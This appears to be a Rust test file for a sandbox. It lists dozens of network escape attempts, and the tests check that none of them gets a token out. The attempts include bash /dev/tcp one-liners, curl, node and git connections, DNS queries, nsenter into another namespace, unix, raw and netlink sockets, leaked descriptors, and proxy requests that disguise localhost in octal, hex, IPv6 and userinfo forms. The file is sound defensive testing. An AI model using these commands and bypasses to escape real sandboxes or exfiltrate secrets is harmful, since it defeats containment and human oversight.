//! Reaching somebody: other machines, services of this one, and the proxy talked into it.

use pintle_sandbox::Rights;

use super::{ATTACK, Attack, By, says_token, token_arrives, withstand};

#[test]
fn nothing_is_reached() {
    withstand(
        "attacks::network::nothing_is_reached",
        |_| {},
        &[SOCKETS, LEFT_OPEN, PROXY, STOPPED],
    );
}

const REACH: Attack = Attack { witness: token_arrives, ..ATTACK };
const CALL: Attack = Attack { witness: says_token, ..ATTACK };

/// Connects a socket of a unix family to the path in a variable.
macro_rules! unix {
    ($variable:literal) => {
        concat!(
            "python3 -I -c '
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ[\"",
            $variable,
            "\"])
s.send(os.environ[\"TOKEN\"].encode())'"
        )
    };
}

const PAIR: &str = r#"python3 -I -c '
import os, socket
s = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
s.sendto(os.environ["TOKEN"].encode(), os.environ["DATAGRAM_SOCKET"])'"#;

const PAIR_INSIDE: &str = r#"python3 -I -c '
import os, socket
s = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
s.sendto(os.environ["TOKEN"].encode(), os.environ["DATAGRAMS_INSIDE"])'"#;

const SOCKETS: &[Attack] = &[
    Attack {
        name: "TCP",
        script: r#"bash -c 'echo "$TOKEN" > /dev/tcp/127.0.0.1/$PORT4'"#,
        ..REACH
    },
    Attack {
        name: "TCP, by name",
        script: r#"bash -c 'echo "$TOKEN" > /dev/tcp/localhost/$PORT4'"#,
        ..REACH
    },
    Attack { name: "IPv6", script: r#"bash -c 'echo "$TOKEN" > /dev/tcp/::1/$PORT6'"#, ..REACH },
    Attack {
        name: "IPv4 in IPv6",
        script: r#"bash -c 'echo "$TOKEN" > /dev/tcp/::ffff:127.0.0.1/$PORT4'"#,
        ..REACH
    },
    Attack {
        name: "UDP",
        script: r#"bash -c 'echo "$TOKEN" > /dev/udp/127.0.0.1/$UDP4'"#,
        ..REACH
    },
    Attack {
        name: "a question to a name server",
        script: r#"python3 -I -c '
import os, socket, struct
name = os.environ["TOKEN"].encode()
question = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\0\0\1\0\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", int(os.environ["UDP4"])))'"#,
        ..REACH
    },
    Attack {
        name: "curl",
        script: r#"curl -s -m 1 "http://127.0.0.1:$PORT4/$TOKEN" --noproxy '*'"#,
        ..REACH
    },
    Attack {
        name: "node",
        script: r#"node -e 'require("net").connect(process.env.PORT4, "127.0.0.1").end(process.env.TOKEN, () => process.exit())'"#,
        ..REACH
    },
    Attack {
        name: "git",
        script: r#"timeout 5 git ls-remote "git://127.0.0.1:$PORT4/$TOKEN" & sleep 0.5; kill $!"#,
        ..REACH
    },
    Attack { name: "multipath TCP", script: r#""$TOOL" mptcp $PORT4 "$TOKEN""#, ..REACH },
    Attack { name: "TCP fast open", script: r#""$TOOL" fastopen $PORT4 "$TOKEN""#, ..REACH },
    Attack { name: "io_uring", script: r#""$TOOL" uring-connect $PORT4 "$TOKEN""#, ..REACH },
    Attack {
        name: "the network of another process",
        script: r#"nsenter --net=/proc/$VICTIM/ns/net bash -c 'echo "$TOKEN" > /dev/tcp/127.0.0.1/$PORT4'"#,
        by: By::Root,
        ..REACH
    },
    Attack { name: "a socket in the home folder", script: unix!("HOME_SOCKET"), ..REACH },
    Attack { name: "a socket in /tmp, as agents have them", script: unix!("TMP_SOCKET"), ..REACH },
    Attack {
        name: "a socket in a folder that can be read",
        script: unix!("TOOLS_SOCKET"),
        ..REACH
    },
    Attack { name: "a socket in the workspace", script: unix!("WORKSPACE_SOCKET"), ..REACH },
    Attack {
        name: "a socket in the workspace, moved with its folder",
        script: concat!(
            "mv app other; export WORKSPACE_SOCKET=other/socket; ",
            unix!("WORKSPACE_SOCKET")
        ),
        ..REACH
    },
    Attack {
        name: "a socket in the workspace, with the rights of workspace",
        script: unix!("WORKSPACE_SOCKET"),
        rights: Rights::Workspace,
        ..REACH
    },
    Attack {
        name: "a socket linked into the workspace",
        script: concat!(
            "ln -s \"$HOME_SOCKET\" here; export HOME_SOCKET=here; ",
            unix!("HOME_SOCKET")
        ),
        ..REACH
    },
    Attack {
        name: "a datagram",
        script: r#"python3 -I -c '
import os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(os.environ["TOKEN"].encode(), os.environ["DATAGRAM_SOCKET"])'"#,
        ..REACH
    },
    Attack { name: "a datagram from one end of a pair", script: PAIR, ..REACH },
    Attack {
        name: "a datagram from one end of a pair into the workspace",
        script: PAIR_INSIDE,
        rights: Rights::Workspace,
        ..REACH
    },
    Attack {
        name: "a socket without a file",
        script: r#"python3 -I -c '
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect("\0" + os.environ["ABSTRACT"])
s.send(os.environ["TOKEN"].encode())'"#,
        ..REACH
    },
    Attack {
        name: "packets",
        script: r#""$TOOL" socket 17 3 768 && echo "$TOKEN""#,
        by: By::Root,
        ..CALL
    },
    Attack {
        name: "raw sockets",
        script: r#""$TOOL" socket 2 3 1 && echo "$TOKEN""#,
        by: By::Root,
        ..CALL
    },
    Attack {
        name: "raw IPv6 sockets",
        script: r#""$TOOL" socket 10 3 58 && echo "$TOKEN""#,
        by: By::Root,
        ..CALL
    },
    Attack {
        name: "the host of a virtual machine",
        script: r#""$TOOL" socket 40 1 0 && echo "$TOKEN""#,
        ..CALL
    },
    Attack {
        name: "netlink: sockets of the machine",
        script: r#""$TOOL" socket 16 3 4 && echo "$TOKEN""#,
        ..CALL
    },
    Attack {
        name: "netlink: events of devices",
        script: r#""$TOOL" socket 16 3 15 && echo "$TOKEN""#,
        ..CALL
    },
    Attack {
        name: "netlink: generic",
        script: r#""$TOOL" socket 16 3 16 && echo "$TOKEN""#,
        ..CALL
    },
    Attack {
        name: "netlink: an address for an interface",
        script: r#"ip addr add 127.9.9.9/32 dev lo && ip addr del 127.9.9.9/32 dev lo && echo "$TOKEN""#,
        by: By::Root,
        ..CALL
    },
    Attack {
        name: "being reached",
        script: r#"python3 -I -c '
import os, socket
s = socket.create_server(("127.0.0.1", int(os.environ["KNOCKED_AT"])))
s.settimeout(1)
s.accept()
print(os.environ["TOKEN"])'"#,
        ..CALL
    },
];

const LEFT_OPEN: &[Attack] = &[
    Attack {
        name: "a connection left open",
        script: r#"bash -c 'echo "$TOKEN" >&$LEFT_SOCKET'"#,
        ..REACH
    },
    Attack { name: "a pair left open", script: r#"bash -c 'echo "$TOKEN" >&$LEFT_PAIR'"#, ..REACH },
];

/// Asks the proxy for a host, and sends the token there.
macro_rules! tunnel {
    ($host:literal) => {
        concat!(
            "python3 -I -c '
import os, socket
place = os.environ[\"http_proxy\"].split(\"//\")[1].split(\":\")
s = socket.create_connection((place[0], int(place[1])))
s.settimeout(5)
host = \"",
            $host,
            "\" + \":\" + os.environ[\"PORT4\"]
s.sendall(b\"CONNECT \" + host.encode() + b\" HTTP/1.1\\r\\n\\r\\n\")
s.recv(999)
s.sendall(os.environ[\"TOKEN\"].encode())
s.shutdown(1)
s.recv(1)'"
        )
    };
}

const ASK: Attack = Attack { rights: Rights::Network, ..REACH };

const PROXY: &[Attack] = &[
    Attack { name: "the machine itself", script: tunnel!("127.0.0.1"), ..ASK },
    Attack { name: "the machine itself, by name", script: tunnel!("localhost"), ..ASK },
    Attack { name: "its name in other letters", script: tunnel!("LocalHost"), ..ASK },
    Attack { name: "in two parts", script: tunnel!("127.1"), ..ASK },
    Attack { name: "as one number", script: tunnel!("2130706433"), ..ASK },
    Attack { name: "in octal", script: tunnel!("0177.0.0.1"), ..ASK },
    Attack { name: "in hexadecimal", script: tunnel!("0x7f.1"), ..ASK },
    Attack { name: "no address at all", script: tunnel!("0.0.0.0"), ..ASK },
    Attack { name: "IPv4 in IPv6", script: tunnel!("[::ffff:127.0.0.1]"), ..ASK },
    Attack { name: "IPv4 in IPv6, in hexadecimal", script: tunnel!("[::ffff:7f00:1]"), ..ASK },
    Attack { name: "a name that ends early", script: tunnel!("127.0.0.1\\0.example.org"), ..ASK },
    Attack { name: "a user before the name", script: tunnel!("example.org@127.0.0.1"), ..ASK },
    Attack {
        name: "a plain request",
        script: r#"curl -s -m 1 --noproxy '' "http://127.0.0.1:$PORT4/$TOKEN""#,
        ..ASK
    },
    Attack {
        name: "a request with a user",
        script: r#"python3 -I -c '
import os, socket
place = os.environ["http_proxy"].split("//")[1].split(":")
s = socket.create_connection((place[0], int(place[1])))
s.settimeout(5)
line = "GET http://example.org@127.0.0.1:%s/%s HTTP/1.1\r\n\r\n" % (os.environ["PORT4"], os.environ["TOKEN"])
s.sendall(line.encode())
s.shutdown(1)
s.recv(99)'"#,
        ..ASK
    },
    Attack {
        name: "past the proxy",
        script: r#"bash -c 'echo "$TOKEN" > /dev/tcp/127.0.0.1/$PORT4'"#,
        ..ASK
    },
    Attack { name: "past the proxy, by a socket", script: unix!("TMP_SOCKET"), ..ASK },
];

/// Stopped by the kernel these tests were written on, with or without a sandbox.
const STOPPED: &[Attack] = &[
    Attack {
        name: "ciphers of the kernel",
        script: r#""$TOOL" socket 38 5 0 && echo "$TOKEN""#,
        stopped_anyway: Some("CONFIG_CRYPTO_USER_API is not set"),
        ..CALL
    },
    Attack {
        name: "SCTP",
        script: r#""$TOOL" socket 2 1 132 && echo "$TOKEN""#,
        stopped_anyway: Some("CONFIG_IP_SCTP is not set"),
        ..CALL
    },
];
